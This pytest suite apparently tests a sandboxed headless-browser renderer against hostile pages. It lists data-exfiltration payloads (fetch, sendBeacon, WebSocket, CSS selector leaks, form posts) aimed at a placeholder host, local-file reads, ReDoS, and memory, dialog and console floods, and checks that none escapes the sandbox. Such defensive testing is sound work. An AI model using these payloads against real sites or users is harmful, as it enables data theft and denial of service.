"""Hostile pages: each ends with the right status soon after its limit, reaches nothing outside,
and the next page is unharmed. One test for each promise, in every tier of this machine.
"""

from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from viscodex.execute.page import PagePool
from viscodex.execute.sandbox import Limits
from viscodex.types import Execution

LIMITS = Limits(wall=4, cpu=1.2, memory=512 << 20)
GRACE_S = 2.0  # after the wall limit


class Listener:
    """A port of this machine that counts whoever connects and answers as a web server would."""

    def __init__(self) -> None:
        self.hits: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._socket.getsockname()[1])
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                self.hits.append(connection.recv(200))
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nleak")

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    with socket.create_connection(("127.0.0.1", server.port)) as probe:
        probe.sendall(b"GET /probe HTTP/1.0\r\n\r\n")
        assert probe.recv(100)
    assert len(server.hits) == 1  # it does see who comes
    server.hits.clear()
    yield server
    server.close()


@pytest.fixture(scope="module", params=["A", "B"])
def pool(request: pytest.FixtureRequest) -> Iterator[PagePool]:
    with PagePool(2, tier=request.param) as pool:
        yield pool


def _attack(pool: PagePool, html: str, limits: Limits = LIMITS) -> Execution:
    """Render a hostile page, and a good one after it."""
    begin = time.monotonic()
    done = pool.render(html, limits=limits)
    assert time.monotonic() - begin < limits.wall + GRACE_S
    assert (done.status == "ok") == (done.image is not None) == (done.page is not None)
    assert (done.status == "ok") == (done.reason == "")
    after = pool.render("<p>unharmed")
    assert after.page is not None, (done.status, after.status, after.reason)
    assert [block.text for block in after.page.blocks] == ["unharmed"]
    return done


# --- the network ----------------------------------------------------------------------------------

REQUESTS = {
    "web_socket": "<script>new WebSocket('ws://HOST/x')</script>",
    "beacon": "<script>navigator.sendBeacon('http://HOST/x', 'secret')</script>",
    "fetch": "<script>fetch('http://HOST/x', {mode: 'no-cors'})</script>",
    "xml_http_request": "<script>r = new XMLHttpRequest(); r.open('GET', 'http://HOST/x'); r.send()</script>",
    "event_source": "<script>new EventSource('http://HOST/x')</script>",
    "worker_fetch": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('http://HOST/x')`])))</script>",
    "worker_web_socket": "<script>new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://HOST/x')`])))</script>",
    "remote_worker": "<script>new Worker('http://HOST/x')</script>",
    "web_transport": "<script>new WebTransport('https://HOST/x')</script>",
    "picture": "<img src='http://HOST/x'>",
    "script": "<script src='http://HOST/x'></script>",
    "module_import": "<script type=module>import 'http://HOST/x'</script>",
    "iframe": "<iframe src='http://HOST/x'></iframe>",
    "iframe_in_iframe": "<iframe sandbox='allow-scripts' srcdoc=\"<img src='http://HOST/x'>\"></iframe>",
    "object": "<object data='http://HOST/x'></object><embed src='http://HOST/x'>",
    "media": "<video src='http://HOST/x' autoplay></video>",
    "style_import": "<style>@import 'http://HOST/x';</style>",
    "style_exfiltration": "<input value=s><style>input[value^=s]{background:url('http://HOST/x')}</style>",
    "font": "<style>@font-face{font-family:f;src:url('http://HOST/x')}p{font-family:f}</style><p>x",
    "form_submit": "<form action='http://HOST/x' id=f method=post></form><script>f.submit()</script>",
    "popup": "<script>window.open('http://HOST/x')</script>",
    "link_with_target": "<a href='http://HOST/x' target=_blank id=a></a><script>a.click()</script>",
    "meta_refresh": "<meta http-equiv=refresh content='0;url=http://HOST/x'>",
    "location": "<script>location.href = 'http://HOST/x'</script>",
    "late_location": "<script>setTimeout(() => location.replace('http://HOST/x'), 20)</script>",
    "download": "<a href='http://HOST/x' download id=a></a><script>a.click()</script>",
    "ping": "<a href='#here' ping='http://HOST/x' id=a></a><script>a.click()</script>",
    "preload": "<link rel=preload as=fetch href='http://HOST/x'><link rel=prefetch href='http://HOST/x'>",
}
UNLISTED = {
    "web_transport", "download", "object", "worker_web_socket", "worker_fetch",
    "remote_worker", "preload",
}  # fmt: skip
"""Blocked before there is a request that could be listed, or listed only on some builds."""


@pytest.mark.parametrize("name", REQUESTS)
def test_no_request_leaves_the_page(pool: PagePool, listener: Listener, name: str) -> None:
    host = f"127.0.0.1:{listener.port}"
    done = _attack(pool, REQUESTS[name].replace("HOST", host) + "<p>still here")
    assert done.status == "ok", done.reason
    assert done.page is not None
    assert done.page.blocks[-1].text == "still here"
    assert listener.hits == []
    if name not in UNLISTED:
        assert any(host in address for address in done.page.refused), done.page.refused


QUIET = {
    "dns_prefetch": "<link rel=dns-prefetch href='//HOST'><link rel=preconnect href='http://HOST'>",
    "webrtc": "<script>p = new RTCPeerConnection({iceServers: [{urls: 'turn:HOST?transport=tcp',"
    " username: 'a', credential: 'b'}]}); p.createDataChannel('x');"
    " p.createOffer().then(o => p.setLocalDescription(o))</script>",
    "speculation_rules": "<script type=speculationrules>{'prefetch':[{'urls':['http://HOST/x']}]}</script>",
    "service_worker": "<script>navigator.serviceWorker.register('http://HOST/x').catch(() => 0)</script>",
    "service_worker_of_its_own": "<script>navigator.serviceWorker.register('/sw.js')"
    ".then(() => document.title = 'registered', () => 0)</script>",
}


@pytest.mark.parametrize("name", QUIET)
def test_no_connection_is_made_on_the_side(pool: PagePool, listener: Listener, name: str) -> None:
    done = _attack(pool, QUIET[name].replace("HOST", f"127.0.0.1:{listener.port}"))
    assert done.status == "ok", done.reason
    assert done.page is not None
    assert done.page.title == ""
    assert listener.hits == []


# --- files and addresses of the machine -----------------------------------------------------------


def test_files_of_the_machine_are_not_read(pool: PagePool, tmp_path: Path) -> None:
    secret = tmp_path / "secret.html"
    secret.write_text("<p>secret</p>")
    tmp_path.chmod(0o755)
    url = secret.as_uri()
    done = _attack(
        pool,
        f"""<iframe src="{url}"></iframe><img src="{url}"><link rel=stylesheet href="{url}">
        <object data="{url}"></object><script>
        fetch("{url}").then(r => r.text()).then(t => document.title = t);
        x = new XMLHttpRequest(); x.open("GET", "{url}"); x.onload = () => document.title = x.response;
        try {{ x.send() }} catch {{ }}
        window.open("{url}"); location.href = "{url}";
        </script><p>only this""",
    )
    assert done.page is not None
    assert [block.text for block in done.page.blocks] == ["only this"]
    assert done.page.title == ""


@pytest.mark.parametrize("address", ["chrome://crash", "chrome://gpu", "view-source:about:blank"])
def test_pages_of_the_browser_are_not_reached(pool: PagePool, address: str) -> None:
    done = _attack(pool, f"<p>here<script>location.href = '{address}'</script>")
    assert done.page is not None
    assert [block.text for block in done.page.blocks] == ["here"]


@pytest.mark.parametrize("where", ["history.back()", "location.href = 'about:blank'", "close()"])
def test_page_that_leaves_is_no_white_picture(pool: PagePool, where: str) -> None:
    done = _attack(pool, f"<p>here<script>setTimeout(() => {{ {where} }}, 10)</script>")
    if done.page is None:
        assert done.status == "error"
        assert "the page went to about:blank" in done.reason
    else:
        assert [block.text for block in done.page.blocks] == ["here"]


# --- time -----------------------------------------------------------------------------------------

ENDLESS = {
    "script": "<script>for (;;) {}</script>",
    "script_after_load": "<script>setTimeout(() => { for (;;) {} })</script>",
    "promises": "<script>(async () => { for (;;) await 0 })()</script>",
    "regular_expression": "<script>/(a+)+b/.test('a'.repeat(99))</script>",
    "nodes": "<body><script>for (;;) document.body.append(document.createElement('p'))</script>",
    "history": "<script>for (let i = 0;; i++) history.pushState(0, '', '/' + i)</script>",
    "locations": "<script>for (;;) location.href = 'http://127.0.0.1:1/' + Math.random()</script>",
    "iframes": "<body><script>for (;;) document.body.append(document.createElement('iframe'))</script>",
    "iframes_in_iframes": "<body><script>(function f(d) { const i = d.createElement('iframe');"
    " d.body.append(i); f(i.contentDocument) })(document)</script>",
    "workers": "<script>u = URL.createObjectURL(new Blob(['for (;;) {}']));"
    " for (let i = 0; i < 50; i++) new Worker(u)</script>",
    "huge_svg_filter": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='30000'"
    " height='30000'><filter id='f'><feTurbulence baseFrequency='.01' numOctaves='9'/></filter>"
    "<rect width='30000' height='30000' filter='url(%23f)'/></svg>\">",
    "synchronous_request": "<script>x = new XMLHttpRequest(); for (;;) { try {"
    " x.open('GET', '/' + Math.random(), false); x.send() } catch {} }</script>",
}


@pytest.mark.parametrize("name", ENDLESS)
def test_endless_page_ends_at_its_limit(pool: PagePool, name: str) -> None:
    done = _attack(pool, ENDLESS[name])
    assert done.status in ("timeout", "memory", "blocked"), done.reason
    assert done.status == "timeout" or name in (
        "synchronous_request",
        "iframes",
        "nodes",
        "workers",
    )


FLOODS = {
    "console": "<script>for (;;) console.log('x'.repeat(1000))</script>",
    "console_errors": "<script>for (;;) console.error(Math.random())</script>",
    "dialogs": "<script>for (;;) alert(1)</script>",
    "confirmations": "<script>while (!confirm('?') || !prompt('?')) {}</script>",
    "print": "<script>for (;;) print()</script>",
    "requests": "<script>for (let i = 0;; i++) new Image().src = 'http://127.0.0.1:1/' + i</script>",
    "later_requests": "<script>i = 0; (function f() { for (let k = 0; k < 500; k++)"
    " new Image().src = 'http://127.0.0.1:1/' + i++; setTimeout(f) })()</script>",
    "popups": "<script>for (;;) window.open('http://127.0.0.1:1/')</script>",
    "one_huge_message": "<script>console.log('x'.repeat(3e8))</script>",
}


@pytest.mark.parametrize("name", FLOODS)
def test_flood_does_not_drown_us(pool: PagePool, name: str) -> None:
    done = _attack(pool, FLOODS[name])
    assert done.status in ("blocked", "timeout", "memory"), done.reason


def test_dialogs_do_not_wait_for_an_answer(pool: PagePool) -> None:
    done = _attack(
        pool,
        "<script>alert(1); document.title = [confirm(2), prompt(3)]; print();"
        " onbeforeunload = () => 'stay'</script>",
    )
    assert done.page is not None
    assert done.page.title == "false,"


def test_console_is_capped(pool: PagePool) -> None:
    done = _attack(
        pool, "<script>for (i = 0; i < 1500; i++) console.error('e'.repeat(2000))</script>"
    )
    assert done.page is not None
    assert len(done.page.console) == 100
    assert {len(line) for line in done.page.console} == {500}


# --- memory and size ------------------------------------------------------------------------------

HOGS = {
    "buffers": "<script>a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))</script>",
    "canvases": "<script>a = []; for (;;) { c = document.createElement('canvas');"
    " c.width = c.height = 16000; g = c.getContext('2d'); g.fillRect(0, 0, 16000, 16000);"
    " g.getImageData(0, 0, 1, 1); a.push(c) }</script>",
    "one_allocation": "<script>a = []; for (;;) a.push(new ArrayBuffer(2e9), "
    "new Uint8Array(2e9).fill(7))</script>",
}


@pytest.mark.parametrize("name", HOGS)
def test_memory_hog_ends_as_such(pool: PagePool, name: str) -> None:
    done = _attack(pool, HOGS[name], Limits(wall=10, cpu=5, memory=512 << 20))
    assert done.status == "memory", done.reason


def test_objects_without_end_stop(pool: PagePool) -> None:
    html = "<script>a = []; for (;;) a.push({x: Math.random(), y: [1, 2, 3]})</script>"
    done = _attack(pool, html, Limits(wall=10, cpu=5, memory=300 << 20))
    assert done.status in ("memory", "timeout"), done.reason


def test_many_nodes_are_cut_in_the_record_only(pool: PagePool) -> None:
    html = "<script>document.write('<b>x</b> '.repeat(100000))</script>"
    done = _attack(pool, html, Limits(wall=60, cpu=30))
    assert done.page is not None, done.reason
    assert len(done.page.blocks) == 5_000
    assert len(done.page.outline) == 2_001
    assert done.page.outline[-1].startswith("... ")


def test_deep_nesting_is_no_crash(pool: PagePool) -> None:
    done = _attack(pool, "<div>" * 20_000 + "deep", Limits(wall=60, cpu=30))
    assert done.status in ("ok", "timeout"), done.reason


def test_huge_picture_is_shown_within_limits(pool: PagePool) -> None:
    done = _attack(
        pool,
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='30000' "
        "height='30000'><circle cx='99' cy='99' r='9'/></svg>\">",
        Limits(wall=60, cpu=30),
    )
    assert done.page is not None, done.reason
    assert done.page.clipped
    assert done.page.width >= 30_000


# --- the page's own tools against us --------------------------------------------------------------


def test_patched_prototypes_do_not_reach_the_record(pool: PagePool) -> None:
    done = _attack(
        pool,
        """<title>true</title><p id=p class=c>real</p><script>
        for (const kind of [Range, Element, Node, Document, Array, String, Object, RegExp, Map])
          for (const name of Object.getOwnPropertyNames(kind.prototype))
            try { kind.prototype[name] = () => { throw "patched" } } catch {}
        JSON.stringify = Math.max = Array.from = () => "patched";
        for (const name of ["title", "body", "documentElement", "fonts", "activeElement"])
          Object.defineProperty(document, name, {get() { return "patched" }});
        window.getComputedStyle = window.OffscreenCanvas = window.Node = null;
        </script>""",
    )
    assert done.page is not None, done.reason
    assert done.page.title == "true"
    assert [block.text for block in done.page.blocks] == ["real"]
    assert "  p#p.c" in done.page.outline


def test_clobbered_names_do_not_reach_the_record(pool: PagePool) -> None:
    done = _attack(
        pool,
        "<form name=body><input name=tagName></form><img name=fonts><img name=documentElement>"
        "<form id=f><input name=childNodes><input name=lastChild><input name=id><p>inside</form>"
        "<p>text",
    )
    assert done.page is not None, done.reason
    assert [block.text for block in done.page.blocks] == ["inside", "text"]


def test_cleared_timers_and_stopped_events_do_not_hold_us(pool: PagePool) -> None:
    done = _attack(
        pool,
        "<p>text<script>for (const kind of ['load', 'DOMContentLoaded']) addEventListener(kind,"
        " (e) => e.stopImmediatePropagation(), true); window.stop();"
        " setInterval(() => { for (let i = 0; i < 1e4; i++) clearTimeout(i) }, 1)</script>",
    )
    assert done.page is not None, done.reason
    assert [block.text for block in done.page.blocks] == ["text"]


def test_neighbours_of_hostile_pages_are_all_rendered(pool: PagePool) -> None:
    hostile = [ENDLESS["script"], FLOODS["console"], HOGS["buffers"], FLOODS["dialogs"]]
    pages = [page for bad in hostile for page in (bad, "<p>good", "<p>good")]
    with ThreadPoolExecutor(3) as threads:
        found = list(threads.map(lambda html: pool.render(html, limits=LIMITS), pages))
    good = [done for html, done in zip(pages, found, strict=True) if html == "<p>good"]
    assert {done.status for done in good} == {"ok"}
    assert "ok" not in {done.status for done in found if done not in good}


def test_page_that_kills_its_browser_again_and_again_gets_a_status(pool: PagePool) -> None:
    """The browser is shot whenever this page asks for its picture; others are tried again."""
    seen = []

    def shoot() -> None:
        while not stop.wait(0.01):
            browser = pool._browser
            if browser is not None and browser not in seen and browser.pages > pages_before:
                seen.append(browser)
                browser.job.kill()

    pages_before, stop = 0, threading.Event()
    thread = threading.Thread(target=shoot)
    thread.start()
    done = pool.render("<script></script><p>x", settle=1.0, limits=LIMITS)
    stop.set()
    thread.join()
    assert done.status == "error"
    assert "three times" in done.reason
    assert len(seen) >= 3
    assert pool.render("<p>unharmed").status == "ok"


def test_nothing_is_left_running(pool: PagePool) -> None:
    with PagePool(1, tier=pool._tier) as other:
        browser = other._browser
        assert browser is not None
        other.render("<script>for (;;) {}</script>", limits=LIMITS)
        group = [*browser._renderers(), browser.job.pid]
    assert group
    assert not [pid for pid in group if Path(f"/proc/{pid}").exists()]
